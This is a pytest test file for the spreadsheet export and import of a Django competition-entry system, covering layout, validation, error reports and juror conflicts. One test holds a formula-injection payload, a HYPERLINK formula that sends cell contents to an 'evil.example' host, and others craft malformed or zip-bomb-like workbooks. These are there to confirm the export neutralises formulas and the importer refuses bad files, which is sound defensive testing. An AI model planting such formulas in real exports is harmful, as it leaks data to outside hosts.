from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
import time_machine
from django.apps import apps
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.text import capfirst

from entries.models import Entry, EntryStatus
from entries.services import allocate_entry_number
from entries.spreadsheets import (
    IMPORT_COLUMNS,
    XLSX_CONTENT_TYPE,
    ImportProblem,
    ImportRefused,
    error_report_workbook,
    export_workbook,
    import_entries,
    import_template_workbook,
    workbook_bytes,
)
from scoring import permissions
from scoring.models import JurorProfile, Recusal, RecusalKind
from tests.factories import (
    BASE,
    AnswerFactory,
    CategoryFactory,
    EditionFactory,
    EntryFactory,
    InstitutionFactory,
    QuestionFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

DURING_CALL = BASE + dt.timedelta(days=10)
FORMAL_CHECK = BASE + dt.timedelta(days=31)
SUBMITTED_AT = dt.datetime(2026, 3, 20, 9, 30, tzinfo=dt.UTC)  # 10:30 in Warsaw
BASE_URL = settings.WAGTAILADMIN_BASE_URL


@pytest.fixture
def formal_check():
    with time_machine.travel(FORMAL_CHECK, tick=False) as traveller:
        yield traveller


@pytest.fixture
def edition(db):
    return EditionFactory(competition__code="SLC", year=2026)


def polish(message: str) -> str:
    with translation.override("pl"):
        return translation.gettext(message)


def upload(rows: list[dict], header=IMPORT_COLUMNS, name="zgloszenia.xlsx") -> SimpleUploadedFile:
    workbook = openpyxl.Workbook()
    workbook.active.append(list(header))
    for row in rows:
        workbook.active.append([row.get(column) for column in header])
    return SimpleUploadedFile(name, workbook_bytes(workbook), content_type=XLSX_CONTENT_TYPE)


def paper_entry(category, institution, /, **overrides) -> dict:
    """One row as an organiser types a paper entry into the template."""
    return {
        "category": category.name,
        "institution": institution.terc or institution.name,
        "title": "Elektroniczny obieg dokumentów",
        "summary": "Urząd bez papieru.",
        "description": "Wdrożenie EZD w urzędzie gminy.",
        "budget": 125000.5,
        "funding_sources": "RPO WM 2021–2027",
        "public_url": "https://ezd.example.org",
        "results": "90% spraw prowadzonych elektronicznie.",
        "users_count": 85,
        "contact_name": "Jan Nowak",
        "contact_email": "jan.nowak@example.org",
        "contact_phone": 221234567,
        "consent_to_publish": "tak",
        **overrides,
    }


def read_back(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


# Export -------------------------------------------------------------------------------------


@pytest.fixture
def exported(edition):
    """Two categories, three entries sent in, one draft that must stay out of the export."""
    spatial = CategoryFactory(edition=edition, name="Poza horyzonty", sort_order=1)
    services = CategoryFactory(edition=edition, name="Ponad codzienność", sort_order=2)
    jablonna = InstitutionFactory(name="Gmina Jabłonna", terc="1408042")
    first = EntryFactory(
        category=spatial,
        institution=jablonna,
        status=EntryStatus.ELIGIBLE,
        sequence=1,
        number="SLC-2026-001",
        title="Geoportal",
        submitted_at=SUBMITTED_AT,
        budget=Decimal("15000.50"),
        funding_sources="budżet gminy",
        public_url="https://geo.example.org",
        users_count=1200,
        contact_phone="22 782 11 11",
        consent_to_publish=True,
    )
    second = EntryFactory(
        category=services,
        institution=InstitutionFactory(name="Gmina Wiązowna", terc="1417112"),
        status=EntryStatus.REJECTED,
        rejection_reason="Brak podpisu.",
        sequence=2,
        number="SLC-2026-002",
        title="E-usługi",
        submitted_at=SUBMITTED_AT,
        budget=Decimal("300000"),
        funding_sources="RPO",
        public_url="https://e.example.org",
        users_count=5000,
        contact_phone="22 780 00 00",
    )
    third = EntryFactory(
        category=services,
        institution=InstitutionFactory(name="Muzeum Mazowieckie", kind="other", terc=""),
        status=EntryStatus.SUBMITTED,
        sequence=3,
        number="SLC-2026-003",
        title="Wirtualne muzeum",
        submitted_at=SUBMITTED_AT,
        budget=Decimal("80000"),
        funding_sources="MKiDN",
        public_url="https://muzeum.example.org",
        users_count=300,
        contact_phone="22 111 22 33",
    )
    EntryFactory(category=services, title="Szkic niewysłany")
    return first, second, third


def test_export_has_one_sheet_per_category_with_bold_frozen_header(edition, exported):
    with translation.override("pl"):
        content = workbook_bytes(export_workbook(edition, base_url=BASE_URL))

    workbook = read_back(content)
    assert workbook.sheetnames == ["Poza horyzonty", "Ponad codzienność"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        assert all(sheet.column_dimensions[c].width >= 8 for c in "ABCDEFGHIJKLMNOPQRS")
    assert [
        row[1] for row in workbook["Ponad codzienność"].iter_rows(min_row=2, values_only=True)
    ] == [
        "E-usługi",
        "Wirtualne muzeum",
    ]


def test_export_writes_numbers_dates_and_admin_links(edition, exported):
    first, _second, _third = exported

    with translation.override("pl"):
        content = workbook_bytes(export_workbook(edition, base_url=BASE_URL))

    row = read_back(content)["Poza horyzonty"][2]
    number, budget, users, submitted_at, link = row[0], row[9], row[12], row[7], row[18]
    expected_url = f"{BASE_URL}{reverse('entries_admin:inspect', args=[first.pk])}"
    assert number.value == "SLC-2026-001"
    assert (budget.value, budget.data_type, budget.number_format) == (15000.5, "n", "#,##0.00")
    assert (users.value, users.data_type) == (1200, "n")
    assert submitted_at.value == dt.datetime(2026, 3, 20, 10, 30)
    assert submitted_at.is_date
    assert link.value == expected_url
    assert link.hyperlink.target == expected_url


EXPORT_FIELDS = [
    ("entries", "entry", "number"),
    ("entries", "entry", "title"),
    ("entries", "entry", "institution"),
    ("competition", "institution", "kind"),
    ("competition", "institution", "terc"),
    ("competition", "institution", "voivodeship"),
    ("entries", "entry", "status"),
    ("entries", "entry", "submitted_at"),
    ("entries", "entry", "summary"),
    ("entries", "entry", "budget"),
    ("entries", "entry", "funding_sources"),
    ("entries", "entry", "public_url"),
    ("entries", "entry", "users_count"),
    ("entries", "entry", "contact_name"),
    ("entries", "entry", "contact_email"),
    ("entries", "entry", "contact_phone"),
    ("entries", "entry", "consent_to_publish"),
    ("entries", "entry", "rejection_reason"),
]


def expected_row(entry: Entry) -> list:
    institution = entry.institution
    return [
        entry.number,
        entry.title,
        institution.name,
        institution.get_kind_display(),
        institution.terc or None,
        institution.voivodeship_name or None,
        entry.get_status_display(),
        pd.Timestamp(2026, 3, 20, 10, 30),
        entry.summary,
        float(entry.budget),
        entry.funding_sources,
        entry.public_url,
        entry.users_count,
        entry.contact_name,
        entry.contact_email,
        entry.contact_phone,
        "tak" if entry.consent_to_publish else "nie",
        entry.rejection_reason or None,
        f"{BASE_URL}{reverse('entries_admin:inspect', args=[entry.pk])}",
    ]


def records(frame: pd.DataFrame) -> list[list]:
    """The frame's rows with empty cells as None, comparable to plain Python values."""
    return frame.astype(object).where(frame.notna(), None).values.tolist()


def test_export_read_with_pandas_equals_the_entries(edition, exported):
    first, second, third = exported
    with translation.override("pl"):
        content = workbook_bytes(export_workbook(edition, base_url=BASE_URL))
        header = [
            capfirst(str(apps.get_model(app, model)._meta.get_field(name).verbose_name))
            for app, model, name in EXPORT_FIELDS
        ] + ["Link do zgłoszenia w panelu"]
        expected = {
            "Poza horyzonty": [expected_row(first)],
            "Ponad codzienność": [expected_row(second), expected_row(third)],
        }

    # TERC codes are text: read them as text, as Excel shows them.
    frames = pd.read_excel(io.BytesIO(content), sheet_name=None, converters={4: str})

    assert list(frames) == list(expected)
    for name, frame in frames.items():
        assert list(frame.columns) == header
        assert records(frame) == expected[name]
    assert frames["Poza horyzonty"].dtypes.iloc[9] == "float64"
    assert frames["Poza horyzonty"].dtypes.iloc[12] == "int64"
    assert str(frames["Poza horyzonty"].dtypes.iloc[7]).startswith("datetime64")


def test_export_gives_valid_unique_sheet_names(edition):
    CategoryFactory(edition=edition, name="Cyfryzacja: e-usługi/e-urząd dla mieszkańców gmin")
    CategoryFactory(edition=edition, name="Cyfryzacja: e-usługi/e-urząd dla mieszkańców powiatów")

    workbook = read_back(workbook_bytes(export_workbook(edition, base_url=BASE_URL)))

    assert workbook.sheetnames == [
        "Cyfryzacja e-usługi e-urząd dla",
        "Cyfryzacja e-usługi e-urząd (2)",
    ]


# Import -------------------------------------------------------------------------------------


def test_import_template_has_the_import_columns():
    workbook = read_back(workbook_bytes(import_template_workbook()))

    header = [cell.value for cell in workbook.worksheets[0][1]]
    assert header == list(IMPORT_COLUMNS)
    assert workbook.worksheets[0].freeze_panes == "A2"


def test_import_of_good_file_submits_entries_with_consecutive_numbers(
    edition, organiser, formal_check
):
    category = CategoryFactory(edition=edition, name="Ponad codzienność")
    wroclaw_region = InstitutionFactory(
        name="Gmina Oborniki Śląskie", kind="gmina_miejsko_wiejska", terc="0222043"
    )
    museum = InstitutionFactory(name="Muzeum Regionalne w Siedlcach", kind="other", terc="")
    legionowo = InstitutionFactory(name="Miasto Legionowo", kind="gmina_miejska", terc="1408011")
    with transaction.atomic():
        allocate_entry_number(edition)  # an entry already submitted online took number 001
    rows = [
        # Excel drops the leading zero of a TERC typed as a number.
        paper_entry(category, wroclaw_region, institution=222043),
        paper_entry(
            category, museum, institution="muzeum regionalne w siedlcach", budget="15 000,50"
        ),
        paper_entry(category, legionowo, consent_to_publish="nie", users_count=None),
    ]

    entries = import_entries(edition=edition, workbook_file=upload(rows), by=organiser)

    assert [e.number for e in entries] == ["SLC-2026-002", "SLC-2026-003", "SLC-2026-004"]
    saved = list(Entry.objects.order_by("sequence"))
    assert [e.sequence for e in saved] == [2, 3, 4]
    assert [e.institution for e in saved] == [wroclaw_region, museum, legionowo]
    assert {e.status for e in saved} == {EntryStatus.SUBMITTED}
    assert {e.submitted_at for e in saved} == {FORMAL_CHECK}
    assert {e.created_by for e in saved} == {organiser}
    assert [e.budget for e in saved] == [
        Decimal("125000.50"),
        Decimal("15000.50"),
        Decimal("125000.50"),
    ]
    assert [e.consent_to_publish for e in saved] == [True, True, False]
    assert [e.users_count for e in saved] == [85, 85, None]
    assert saved[0].contact_phone == "221234567"


def test_import_without_number_column_and_with_blank_rows(edition, organiser, formal_check):
    category = CategoryFactory(edition=edition)
    institution = InstitutionFactory()
    header = [column for column in IMPORT_COLUMNS if column != "number"]
    rows = [{}, paper_entry(category, institution), {}]

    entries = import_entries(edition=edition, workbook_file=upload(rows, header), by=organiser)

    assert [e.number for e in entries] == ["SLC-2026-001"]


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"category": "Nie ma takiej"}, "category"),
        ({"institution": "1499992"}, "institution"),
        ({"institution": "Urząd, którego nie ma"}, "institution"),
        ({"title": None}, "title"),
        ({"budget": "dużo"}, "budget"),
        ({"budget": -5}, "budget"),
        ({"users_count": 12.5}, "users_count"),
        ({"contact_email": "jan.nowak(at)example.org"}, "contact_email"),
        ({"public_url": "ezd example"}, "public_url"),
        ({"summary": "x" * 1001}, "summary"),
        ({"results": None}, "results"),
        ({"consent_to_publish": "może"}, "consent_to_publish"),
        (
            {"implementation_start": "2026-05-01", "implementation_end": "2026-04-01"},
            "implementation_end",
        ),
    ],
)
def test_import_reports_bad_value_by_row_and_column(
    edition, organiser, formal_check, overrides, field
):
    category = CategoryFactory(edition=edition)
    good, bad = InstitutionFactory(), InstitutionFactory()
    rows = [paper_entry(category, good), paper_entry(category, bad, **overrides)]

    with pytest.raises(ImportRefused) as refused:
        import_entries(edition=edition, workbook_file=upload(rows), by=organiser)

    assert [(p.row, p.field, p.column) for p in refused.value.problems] == [
        (3, field, openpyxl.utils.get_column_letter(IMPORT_COLUMNS.index(field) + 1))
    ]
    assert not Entry.objects.exists()


def test_import_refuses_kind_the_category_does_not_accept(edition, organiser, formal_check):
    category = CategoryFactory(edition=edition, name="Dla powiatów", eligible_kinds=["powiat"])
    gmina = InstitutionFactory()

    with pytest.raises(ImportRefused) as refused:
        import_entries(
            edition=edition, workbook_file=upload([paper_entry(category, gmina)]), by=organiser
        )

    [problem] = refused.value.problems
    assert (problem.row, problem.field) == (2, "institution")
    with translation.override("pl"):
        assert "Dla powiatów" in problem.message


def test_import_counts_rows_above_and_existing_entries_towards_the_limit(
    edition, organiser, formal_check
):
    category = CategoryFactory(edition=edition)
    busy, free = InstitutionFactory(), InstitutionFactory()
    EntryFactory(category=category, institution=busy)
    rows = [paper_entry(category, free), paper_entry(category, free), paper_entry(category, busy)]

    with pytest.raises(ImportRefused) as refused:
        import_entries(edition=edition, workbook_file=upload(rows), by=organiser)

    assert [(p.row, p.field) for p in refused.value.problems] == [
        (3, "institution"),
        (4, "institution"),
    ]
    assert Entry.objects.count() == 1


def test_import_refuses_unknown_and_missing_columns(edition, organiser, formal_check):
    header = ["kategoria", "institution", "title"]

    with pytest.raises(ImportRefused) as refused:
        import_entries(edition=edition, workbook_file=upload([{}], header), by=organiser)

    assert [(p.row, p.column, p.field) for p in refused.value.problems] == [
        (1, "A", "kategoria"),
        (1, "", "category"),
    ]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("regulamin.xlsx", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"),
        ("lista.xlsx", b"kategoria;instytucja\nPoza horyzonty;1408011\n"),
        ("pusty.xlsx", b""),
    ],
)
def test_import_of_a_file_that_is_not_a_workbook_is_refused(
    edition, organiser, formal_check, name, content
):
    file = SimpleUploadedFile(name, content, content_type=XLSX_CONTENT_TYPE)

    with pytest.raises(ValidationError) as refused, translation.override("pl"):
        import_entries(edition=edition, workbook_file=file, by=organiser)

    with translation.override("pl"):
        assert refused.value.messages == [
            f"„{name}” nie jest skoroszytem Excela (.xlsx). Zapisz arkusz jako skoroszyt "
            "Excela i wyślij go ponownie."
        ]


def test_import_after_the_formal_check_is_refused(edition, organiser):
    category = CategoryFactory(edition=edition)
    rows = [paper_entry(category, InstitutionFactory())]

    with time_machine.travel(edition.scoring_opens_at, tick=False), pytest.raises(ValidationError):
        import_entries(edition=edition, workbook_file=upload(rows), by=organiser)

    assert not Entry.objects.exists()


def test_error_report_lists_row_column_and_problem():
    problems = [ImportProblem(3, "O", "contact_email", "Wpisz poprawny adres e-mail.")]

    workbook = read_back(workbook_bytes(error_report_workbook(problems)))

    assert list(workbook.active.iter_rows(min_row=2, values_only=True)) == [
        (3, "O", "contact_email", "Wpisz poprawny adres e-mail.")
    ]


# Import through the admin -------------------------------------------------------------------


def test_import_view_submits_good_file(client, organiser, edition, formal_check):
    category = CategoryFactory(edition=edition)
    rows = [
        paper_entry(category, InstitutionFactory()),
        paper_entry(category, InstitutionFactory()),
    ]
    client.force_login(organiser)

    response = client.post(
        reverse("entry_spreadsheets:index"), {"edition": edition.pk, "file": upload(rows)}
    )

    assert response.status_code == 302
    assert response["Location"] == f"{reverse('entries_admin:list')}?edition={edition.pk}"
    assert list(Entry.objects.values_list("number", flat=True)) == ["SLC-2026-001", "SLC-2026-002"]


def test_import_view_with_one_bad_row_imports_nothing_and_offers_a_report(
    client, organiser, edition, formal_check
):
    category = CategoryFactory(edition=edition)
    rows = [
        paper_entry(category, InstitutionFactory()),
        paper_entry(category, InstitutionFactory(), contact_email="nie-mail"),
        paper_entry(category, InstitutionFactory()),
    ]
    client.force_login(organiser)

    response = client.post(
        reverse("entry_spreadsheets:index"), {"edition": edition.pk, "file": upload(rows)}
    )
    report_url = response.context["report_url"]
    report = client.get(report_url)

    body = response.content.decode()
    assert response.status_code == 200
    assert "Nic nie zaimportowano: arkusz zawiera 1 problem." in body
    assert report_url in body
    assert not Entry.objects.exists()
    assert report.status_code == 200
    assert report["Content-Type"] == XLSX_CONTENT_TYPE
    problems = list(read_back(report.content).active.iter_rows(min_row=2, values_only=True))
    assert [problem[:3] for problem in problems] == [(3, "O", "contact_email")]
    header = [cell.value for cell in read_back(report.content).active[1]]
    assert header == ["Wiersz", "Kolumna", "Pole", "Problem"]


def test_import_view_shows_clear_message_for_a_renamed_pdf(
    client, organiser, edition, formal_check
):
    client.force_login(organiser)
    pdf = SimpleUploadedFile("zgloszenia.xlsx", b"%PDF-1.7\n%%EOF", content_type=XLSX_CONTENT_TYPE)

    response = client.post(
        reverse("entry_spreadsheets:index"), {"edition": edition.pk, "file": pdf}
    )

    assert response.status_code == 200
    assert "„zgloszenia.xlsx” nie jest skoroszytem Excela (.xlsx)." in response.content.decode()
    assert not Entry.objects.exists()


def test_import_report_of_someone_else_is_not_found(client, organiser, edition, formal_check):
    client.force_login(organiser)

    response = client.get(reverse("entry_spreadsheets:report", args=["not-my-token"]))

    assert response.status_code == 404


def test_export_writes_formula_like_user_text_as_text(edition):
    category = CategoryFactory(edition=edition, name="=SUM(1)")
    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"Kliknij")'
    EntryFactory(
        category=category,
        status=EntryStatus.SUBMITTED,
        sequence=1,
        number="SLC-2026-001",
        title=formula,
        institution__name="@Gmina",
        contact_name="-Jan",
    )

    book = read_back(workbook_bytes(export_workbook(edition, base_url=BASE_URL)))

    row = next(book.worksheets[0].iter_rows(min_row=2))
    title, institution = row[1], row[2]
    assert (title.value, title.data_type) == (formula, "s")
    assert (institution.value, institution.data_type) == ("@Gmina", "s")
    assert not [
        c.coordinate for r in book.worksheets[0].iter_rows() for c in r if c.data_type == "f"
    ]


def test_error_report_writes_formula_like_column_name_as_text():
    problem = ImportProblem(1, "A", "=1+1", "Nieznana kolumna.")

    book = read_back(workbook_bytes(error_report_workbook([problem])))

    cell = book.active["C2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def rewrite_part(content: bytes, part: str, change) -> bytes:
    """The workbook `content` with one zip part's text passed through `change`."""
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == part:
                data = change(data.decode()).encode()
            archive.writestr(info.filename, data)
    return target.getvalue()


def paper_upload(category, institution, **overrides) -> bytes:
    return upload([paper_entry(category, institution, **overrides)]).read()


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (lambda xml: xml.replace("Wdrożenie EZD", "Wdrożenie &#1; EZD"), "not_xlsx"),
        (lambda xml: xml.replace("Wdrożenie EZD", "W" * 40_000), "cell_too_long"),
        (lambda xml: xml.replace("Wdrożenie EZD", "W" * (51 * 2**20)), "too_large"),
    ],
    ids=["control-character-entity", "cell-too-long", "unpacks-too-large"],
)
def test_import_of_a_crafted_workbook_is_refused_with_a_message(
    edition, organiser, formal_check, change, code
):
    category = CategoryFactory(edition=edition, name="Poza horyzonty")
    content = paper_upload(category, InstitutionFactory(terc="1408042"))
    crafted = rewrite_part(content, "xl/worksheets/sheet1.xml", change)
    file = SimpleUploadedFile("zgloszenia.xlsx", crafted, content_type=XLSX_CONTENT_TYPE)

    with pytest.raises(ValidationError) as refused:
        import_entries(edition=edition, workbook_file=file, by=organiser)

    assert refused.value.code == code
    assert not Entry.objects.exists()


# Automatic conflicts of imported entries ------------------------------------------------------

CONFLICT_TABLES = ("scoring_recusal", "scoring_jurorprofile", "categoryuserobjectpermission")


def county_juror(category):
    """A juror of the category who works for the Legionowo county office."""
    juror = UserFactory(username="starosta")
    JurorProfile.objects.create(
        user=juror, affiliation=InstitutionFactory(kind="powiat", terc="1408", name="Starostwo")
    )
    permissions.appoint_juror(category=category, user=juror)
    return juror


def import_rows(edition, category, organiser, count: int, *, first: int = 1) -> tuple[list, int]:
    """Import `count` rows, every other one from a gmina of the juror's county; (entries,
    queries about conflicts)."""
    numbers = range(first, first + count)
    rows = [
        paper_entry(category, InstitutionFactory(terc=f"{'1408' if n % 2 else '0201'}{n:02d}2"))
        for n in numbers
    ]
    with CaptureQueriesContext(connection) as queries:
        entries = import_entries(edition=edition, workbook_file=upload(rows), by=organiser)
    about_conflicts = [q for q in queries if any(table in q["sql"] for table in CONFLICT_TABLES)]
    return entries, len(about_conflicts)


def test_import_applies_conflicts_as_single_saves_would(edition, organiser, formal_check):
    category = CategoryFactory(edition=edition)
    juror = county_juror(category)

    entries, _ = import_rows(edition, category, organiser, 6)

    conflicted = set(
        Recusal.objects.filter(kind=RecusalKind.AUTOMATIC).values_list("juror_id", "entry_id")
    )
    assert conflicted == {
        (juror.pk, entry.pk) for entry in entries if entry.institution.terc.startswith("1408")
    }
    assert len(conflicted) == 3


def test_import_conflict_queries_do_not_grow_with_the_rows(edition, organiser, formal_check):
    category = CategoryFactory(edition=edition)
    county_juror(category)

    _, for_one = import_rows(edition, category, organiser, 1)
    Entry.objects.all().delete()
    Recusal.objects.all().delete()
    _, for_fifty = import_rows(edition, category, organiser, 50, first=2)

    assert Recusal.objects.count() == 25
    assert for_one == for_fifty <= 4


# The edition's own questions --------------------------------------------------------------------


def test_export_has_a_column_per_question_of_the_category(edition, exported):
    first, second, _third = exported
    everywhere = QuestionFactory(edition=edition, kind="number", label="Liczba e-usług")
    spatial_only = QuestionFactory(
        edition=edition, category=first.category, kind="date", label="Data wdrożenia"
    )
    AnswerFactory(entry=first, question=everywhere, value="12")
    AnswerFactory(entry=first, question=spatial_only, value="2025-03-31")
    AnswerFactory(entry=second, question=everywhere, value="3.5")

    workbook = read_back(workbook_bytes(export_workbook(edition, base_url=BASE_URL)))

    spatial, services = workbook.worksheets
    spatial_header = [cell.value for cell in spatial[1]]
    services_header = [cell.value for cell in services[1]]
    assert spatial_header[-3:] == ["Liczba e-usług", "Data wdrożenia", spatial_header[-1]]
    assert "Data wdrożenia" not in services_header
    assert [cell.value for cell in spatial[2]][-3:-1] == [12, dt.datetime(2025, 3, 31)]
    assert [cell.value for cell in services[2]][-2] == 3.5
    assert [cell.value for cell in services[3]][-2] is None


def exported_queries(edition) -> int:
    with CaptureQueriesContext(connection) as queries:
        workbook = export_workbook(edition, base_url=BASE_URL)
    workbook_bytes(workbook)  # a write-only workbook must be saved, or it warns when collected
    return len(queries)


def test_export_queries_flat_in_questions_and_entries(edition, exported):
    QuestionFactory(edition=edition)
    AnswerFactory(entry=exported[0], question__edition=edition)
    one = exported_queries(edition)
    category = exported[1].category
    for n in range(4, 10):
        entry = EntryFactory(
            category=category, status=EntryStatus.SUBMITTED, sequence=n, number=f"SLC-2026-{n:03d}"
        )
        for kind in ("short_text", "number", "date"):
            AnswerFactory(entry=entry, question__kind=kind, question__category=category, value=None)

    many = exported_queries(edition)

    assert many == one


def test_import_reads_one_column_per_question_and_export_writes_it_back(
    edition, organiser, formal_check
):
    category = CategoryFactory(edition=edition, name="Ponad codzienność")
    institution = InstitutionFactory(terc="1408011")
    systems = QuestionFactory(
        edition=edition, code="systemy", kind="multiple_choice", choices="ePUAP\nSEKAP\nwłasny"
    )
    count = QuestionFactory(edition=edition, code="e_uslugi", kind="number", required=True)
    header = [*IMPORT_COLUMNS, "systemy", "e_uslugi"]
    row = paper_entry(category, institution, systemy="ePUAP; własny", e_uslugi=14)

    (entry,) = import_entries(edition=edition, workbook_file=upload([row], header), by=organiser)
    sheet = read_back(workbook_bytes(export_workbook(edition, base_url=BASE_URL))).worksheets[0]

    assert {a.question_id: a.value for a in entry.answers.all()} == {
        systems.pk: ["ePUAP", "własny"],
        count.pk: "14",
    }
    assert [cell.value for cell in sheet[2]][-3:-1] == ["ePUAP; własny", 14]


def test_import_refuses_bad_or_missing_answers_by_row_and_writes_nothing(
    edition, organiser, formal_check
):
    category = CategoryFactory(edition=edition)
    institution = InstitutionFactory(terc="1408011")
    QuestionFactory(edition=edition, code="e_uslugi", kind="number", max_value=100, label="Ile?")
    QuestionFactory(edition=edition, code="zgoda", kind="consent", required=True)
    header = [*IMPORT_COLUMNS, "e_uslugi", "zgoda"]
    rows = [
        paper_entry(category, institution, e_uslugi="dużo", zgoda="tak"),
        paper_entry(category, InstitutionFactory(terc="1408021"), e_uslugi=500, zgoda="nie"),
    ]

    with pytest.raises(ImportRefused) as excinfo:
        import_entries(edition=edition, workbook_file=upload(rows, header), by=organiser)

    problems = [(p.row, p.column, p.field) for p in excinfo.value.problems]
    assert problems == [
        (2, "R", "e_uslugi"),
        (3, "R", "e_uslugi"),
        (3, "S", "zgoda"),
    ]
    assert excinfo.value.problems[0].message.startswith("Ile?: ")
    assert not Entry.objects.exists()


def test_import_template_of_an_edition_has_a_column_per_question(edition):
    QuestionFactory(edition=edition, code="e_uslugi", label="Jakie e-usługi?", required=True)
    QuestionFactory(edition=edition, code="stare", hidden=True)

    workbook = read_back(workbook_bytes(import_template_workbook(edition)))

    header = [cell.value for cell in workbook.worksheets[0][1]]
    notes = list(workbook.worksheets[1].iter_rows(min_row=2, values_only=True))
    assert header == [*IMPORT_COLUMNS, "e_uslugi"]
    assert notes[-1][:2] == ("e_uslugi", "tak")
    assert notes[-1][2].startswith("Jakie e-usługi?")
